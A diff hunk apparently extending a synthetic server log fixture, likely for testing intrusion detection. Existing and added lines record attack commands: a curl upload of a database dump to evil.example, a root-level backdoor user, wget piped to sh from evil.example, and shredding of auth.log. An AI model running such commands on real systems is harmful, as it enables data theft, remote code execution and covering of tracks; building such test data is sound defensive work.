@@ -17,6 +17,9 @@ Nov 19 08:15:33 web-01 sshd[311]: Failed password for alice from 198.51.100.4 po
 Nov 19 08:15:39 web-01 sshd[312]: Accepted password for root from 203.0.113.9 port 4713 ssh2
 Nov 19 08:16:39 web-01 sudo:    bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/curl -T /srv/dump.sql https://evil.example/u
 Nov 19 08:17:39 web-01 useradd[55]: new user: name=svc-backup2, UID=0, GID=0, home=/root, shell=/bin/bash
+Nov 19 08:18:02 web-01 sudo:    root : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/bin/bash -c wget -q http://evil.example/x.sh -O- | sh
+Nov 19 08:18:40 web-01 sudo:    root : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/shred -u /var/log/auth.log
+Nov 19 08:19:01 web-01 crontab[77]: (root) REPLACE (root)
 Nov 19 08:20:00 web-01 sshd[400]: Accepted publickey for deploy from 192.0.2.20 port 50022 ssh2
 Nov 19 09:00:00 web-01 cron[99]: (backup) CMD (run-parts /etc/cron.daily)
 `;
